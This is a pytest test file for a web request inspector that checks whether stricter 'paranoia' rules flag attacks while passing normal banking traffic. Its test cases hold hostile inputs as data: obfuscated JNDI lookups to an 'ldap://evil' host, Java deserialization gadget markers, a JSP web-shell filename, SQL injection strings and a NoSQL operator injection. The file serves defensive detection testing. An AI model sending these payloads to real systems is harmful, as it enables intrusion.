"""Paranoia as a sensitivity knob: PL2 rules (Java, SQL, NoSQL) and the per-level model settings."""

from __future__ import annotations

import json

import pytest

from fsbrain.domains.web.inspector import MODEL_BLOCK, WebInspector

H = {"Host": "bank.example.com", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0", "Accept": "*/*"}


@pytest.fixture(scope="module")
def pl1():
    return WebInspector(paranoia=1)


@pytest.fixture(scope="module")
def pl2():
    return WebInspector(paranoia=2)


def post(body: str, ctype: str = "application/x-www-form-urlencoded", **headers: str) -> dict:
    return {"method": "POST", "uri": "/api/submit", "body": body,
            "headers": {**H, "Content-Type": ctype, "Content-Length": str(len(body.encode())), **headers}}


def get(uri: str) -> dict:
    return {"method": "GET", "uri": uri, "headers": H, "body": ""}


def test_model_block_tightens_with_paranoia():
    assert [MODEL_BLOCK[p] for p in (1, 2, 3, 4)] == sorted(MODEL_BLOCK.values(), reverse=True)
    assert WebInspector(paranoia=2, model=False).model_block == MODEL_BLOCK[2]
    assert WebInspector(paranoia=2, model=False, model_block=0.9).model_block == 0.9
    assert WebInspector(paranoia=1, model=False).clear_plain is True
    assert WebInspector(paranoia=2, model=False).clear_plain is False


@pytest.mark.parametrize("req,rule", [
    (post("test=java.io.BufferedReader"), 610910),
    (post(json.dumps({"org.apache.commons.collections": "x"}), "application/json"), 610910),
    (post("x=1", Cookie="s=rO0ABXNyABdqYXZh"), 610910),
    (post("payload=cnVudGltZQ"), 610910),  # base64 "runtime"
    (post("x=1", **{"X-Api-Data": "ProcessBuilder.evil.clonetransformer"}), 610910),
    (post('<?xml version="1.0"?><r a="java.evil.processbuilder">v</r>', "application/xml"), 610911),
    (post("foo=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2Fevil%7D"), 610912),
    (post("foo=%26%2336%3B%7Bjndi%3Aldap%3A%2F%2Fevil%7D"), 610912),
    ({"method": "GET", "uri": "/upload", "headers": {**H, "X-Filename": "shell.jsp"}, "body": ""}, 610913),
])
def test_pl2_java_rules(pl1, pl2, req, rule):
    v = pl2.inspect(req)
    assert v["attack"] and rule in v["rules"] and "web_java" in v["labels"]
    assert rule not in pl1.inspect(req)["rules"]  # PL2 rules stay out of PL1


@pytest.mark.parametrize("uri,rule", [
    ("/search?q=1%22OR%21%22a", 610311),
    ("/search?q=case%201%20when%202%20then%202%20end", 610311),
    ("/search?q=1%3B%20BEGIN%20DECLARE%20%40xy%20varchar(8000)", 610311),
    ("/search?q=1%23abc%0AAND%23def%0A9227%3D9227", 610311),
    ("/search?q=1--", 610311),
    ("/user?u_id[$ne]=2", 610312),
])
def test_pl2_sql_rules(pl2, uri, rule):
    v = pl2.inspect(get(uri))
    assert v["attack"] and rule in v["rules"] and "web_sqli" in v["labels"]


def test_pl2_does_not_clear_rule_hits_on_plain_values(pl1):
    # "information_schema.tables" is a plain value (letters, "_" and "."): the model does not score it. At PL1 it
    # vouches for it (and clears weak hits on it); from PL2 on only values the model scored can clear a rule hit.
    plain_hit = WebInspector(paranoia=2, clear_plain=True).inspect(get("/search?q=information_schema.tables"))
    assert not plain_hit["attack"] and 610304 in plain_hit["suppressed_rules"]
    assert WebInspector(paranoia=2).inspect(get("/search?q=information_schema.tables"))["suppressed_rules"] == []
    # "1--" is made of plain characters but is a SQL comment: not plain, so even clear_plain does not vouch for it
    assert WebInspector(paranoia=2, clear_plain=True).inspect(get("/search?q=1--"))["attack"]


@pytest.mark.parametrize("req", [
    post("memo=Java+runtime+update+for+the+online+banking+plugin%3F"),
    post("q=java+developer+jobs+in+Shanghai"),
    post(json.dumps({"payee": "张三", "amount": "100.00", "memo": "房租 12月"}), "application/json"),
    post("from=6222903394740718669&to=6217923041837896842&amount=16520.37&memo=Rent+--+December"),
    get("/search?q=Tom+and+Jerry+or+the+Simpsons"),
    get("/api/v1/accounts?sort=-created&page=2&per_page=20"),
    post("x=1", Cookie="SESSIONID=d3c6ad2c88b291eccf5752a1dc45ede8; _ga=GA1.2.405545101.1802086507"),
])
def test_pl2_passes_ordinary_traffic(pl2, req):
    v = pl2.inspect(req)
    assert not v["attack"], v["reasons"]
